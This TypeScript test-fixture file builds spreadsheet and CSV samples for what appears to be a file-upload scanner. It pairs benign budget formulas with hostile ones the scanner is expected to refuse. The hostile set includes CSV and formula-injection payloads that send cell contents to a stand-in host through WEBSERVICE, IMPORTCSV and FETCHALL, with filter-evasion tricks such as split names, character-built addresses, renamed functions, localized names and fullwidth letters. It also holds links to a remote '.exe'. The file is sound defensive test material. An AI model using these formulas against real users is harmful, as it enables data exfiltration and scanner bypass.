import { zipOf } from '#tests/support/zip.ts'
import { buildOdt, buildXlsx } from './build-office.ts'
import type { Honest, Hostile } from './document.ts'

const written = (formula: string) =>
  formula.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
const xlsxOf = (formula: string) => buildXlsx({ body: written(formula) })
const odsOf = (formula: string) =>
  buildOdt({ body: `<table:table-cell table:formula="${written(formula)}"/>` }, 'spreadsheet')
const csvOf = (cell: string) =>
  zipOf([{ name: 'a.csv', content: `a,b\n"${cell.replaceAll('"', '""')}",2\n` }])

const inSheets: [name: string, does: string, formula: string][] = [
  ['newer', 'fetches by a function that no list knows', '_xlfn.IMPORTCSV("https://host/"&A1)'],
  ['sent', 'sends a text to a translator', '_xlfn.TRANSLATE(A1,"en","fr")'],
  ['passed', 'passes on a function that fetches', 'MAP("http://host/"&A1,_xleta.WEBSERVICE)'],
  ['named', 'gives it another name', '_xlfn.LET(_xlpm.f,WEBSERVICE,_xlpm.f("http://host/"&A1))'],
  ['joined', 'joins a function of pieces', 'EVALUATE("WEB"&"SERVICE(1)")'],
  ['linked-cell', 'links to what a cell says', 'HYPERLINK(B1)'],
  [
    'linked-signs',
    'links to a share that is spelled',
    'HYPERLINK(CHAR(92)&CHAR(92)&"host"&CHAR(92)&"a.exe")',
  ],
  ['linked-passed', 'passes on the function that links', 'MAP(A1:A2,_xleta.HYPERLINK)'],
  ['in-column', 'hides a function between columns', `T['[]+FETCHALL("http://host")+T['[]`],
  ['kept', 'keeps a formula of another program', 'IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(A1)"),5)'],
]
const inOpenSheets: [name: string, does: string, formula: string][] = [
  ['place', 'takes a cell of a document elsewhere', `of:=INDIRECT("'http://host/a.ods'#$Sheet1.A1")`],
  ['place-joined', 'joins its address', 'of:=INDIRECT([.B1]&"#A1")'],
  [
    'place-listed',
    'offers the cells of one',
    `of:cell-content-is-in-list(INDIRECT("'file://host/a.ods'#A.A1"))`,
  ],
  ['in-brackets', 'hides a function between cells', `of:=['a]'.A1]+FETCHALL("http://host")+['a]'.A1]`],
]
const inLists: [name: string, does: string, cell: string][] = [
  ['german', 'sends a cell by a German function', '=WEBDIENST("http://host/?"&A1)'],
  ['french', 'by a French one, behind a sign', '-SERVICEWEB(A1&B1)'],
  ['french-link', 'links to a program', '=LIEN_HYPERTEXTE("file://host/a.exe";"Total")'],
  ['built', 'builds an address of signs', '+SERVICEWEB(CAR(104)&CAR(58))'],
  ['handed-on', 'passes a function on', '=MAP("http"&A1,SERVICEWEB)'],
  ['handed-back', 'asks what stands in brackets', '=(SERVICEWEB)("http:"&A1)'],
  ['renamed', 'names it anew', '@LET(f,WEBSERVICE,f("http:"&A1))'],
  ['placed', 'takes a cell elsewhere', `=INDIRECT("'http://host/a.ods'#$A.A1")`],
  ['wide', 'writes it in wide letters', '\uff1d\uff37\uff25\uff22\uff24\uff29\uff25\uff2e\uff33\uff34(A1)'],
]

const row =
  (refused: Hostile['refused'], type: Hostile['type'], make: (formula: string) => Buffer) =>
  ([name, does, formula]: [string, string, string]): Hostile => ({
    name: `formula-${name}`,
    does,
    refused,
    type,
    make: () => make(formula),
  })

export const hostileFormulas: Hostile[] = [
  ...inSheets.map(row('file_has_references', 'xlsx', xlsxOf)),
  ...inOpenSheets.map(row('file_has_references', 'ods', odsOf)),
  ...inLists.map(row('archive_has_refused_file', 'zip', csvOf)),
]

/** Of a budget and a time sheet, as Excel, Calc and Google Sheets write them. */
const BUDGET = [
  'IF(SUM(B2:B9)>=1000,ROUND(SUM(B2:B9)*0.15,2),"")',
  'IFERROR(VLOOKUP($A2,Rates!$A:$C,3,FALSE),0)',
  'INDEX(Rates!$C$2:$C$99,MATCH(1,(Rates!A2:A99=A2)*(Rates!B2:B99=B2),0))',
  'SUMIFS(Costs[Amount (GHS)],Costs[Month],"<="&DATE(2026,12,31),Costs[Image],"x")',
  '_xlfn.XLOOKUP(A2,Staff[Name],Staff[[#This Row],[Rate (USD)]],"")',
  '_xlfn._xlws.FILTER(A2:C9,B2:B9>0,"none")&_xlfn.TEXTJOIN(", ",TRUE,A2:A9)',
  '_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.f(2))',
  'TEXT(TODAY(),"dd/mm/yyyy")&" "&UPPER(LEFT(TRIM(A1),3))',
  'NETWORKDAYS.INTL(A1,EOMONTH(A1,0),1)+DATEDIF(A1,B1,"d")',
  'PMT(B1/12,B2,-B3)+NPV(0.1,B4:B9)+STDEV.S(B2:B9)+LOG10(100)',
  'COUNTIF(\'Plan (2)\'!A:A,"Yes")+Register!B2+Image!A1',
  `HYPERLINK("#'Plan (2)'!A1","Plan")&HYPERLINK("mailto:ama@example.org?subject="&A1)`,
  `SUM(INDIRECT("'Plan (2)'!A1:B2"))+INDIRECT("Rates")`,
  'IFERROR(__xludf.DUMMYFUNCTION("""COMPUTED_VALUE"""),5)',
  'SUM((A1:B2) (B1:C2))+MIN (A1)',
]
const OPEN_BUDGET = [
  'of:=IF(SUM([.B2:.B9])>=1000;ROUND(SUM([.B2:.B9])*0.15;2);"")',
  `of:=COUNTIF([$'Bob''s plan (2)'.A1:.A9];"Yes")+VLOOKUP([.A2];[$Rates.A1:.C9];3;0)`,
  'of:=COM.MICROSOFT.TEXTJOIN(", ";1;[.A1:.A9])&COM.MICROSOFT.STDEV.S([.A1:.A9])',
  'of:=COM.SUN.STAR.SHEET.ADDIN.ANALYSIS.GETEDATE([.A1];1)+ORG.OPENOFFICE.EASTERSUNDAY(2026)',
  'of:cell-content-is-in-list("Yes";"No (not yet)") and cell-content-text-length()<9',
  'of:is-true-formula(ISNUMBER(SEARCH("a";[.A1])))',
]
const CELLS = [
  '+233 24 123 4567',
  '-5',
  '-1,250.50',
  '- item',
  '- travel (Accra) and food (Kumasi, 3 days)',
  '- Health & Safety (HSE), plan',
  '=====',
  '== Budget (draft) ==',
  '@ama (Kofi)',
  '=SUM(B2:B9)*1.15',
  '=IF(A1>2,"Yes","No (not yet)")',
  '=ROUND(VLOOKUP(A2,$A$1:$C$9,3,FALSE)/(1+2),2)',
  '=-(3+4)*(2)',
]

export const honestFormulas: Honest[] = [
  ...BUDGET.map((formula): Honest => ({ name: formula, type: 'xlsx', make: () => xlsxOf(formula) })),
  ...OPEN_BUDGET.map((formula): Honest => ({ name: formula, type: 'ods', make: () => odsOf(formula) })),
  ...CELLS.map((cell): Honest => ({ name: `a list with ${cell}`, type: 'zip', make: () => csvOf(cell) })),
]
